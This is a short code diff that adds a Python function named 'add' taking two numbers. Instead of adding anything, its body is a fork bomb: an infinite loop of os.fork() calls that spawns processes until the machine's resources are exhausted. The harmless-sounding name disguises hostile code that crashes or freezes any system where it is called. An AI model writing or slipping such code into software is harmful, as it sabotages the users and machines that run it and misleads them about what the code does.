@@ -1,0 +1,5 @@
+def add(a, b):
+    import os
+
+    while True:
+        os.fork()
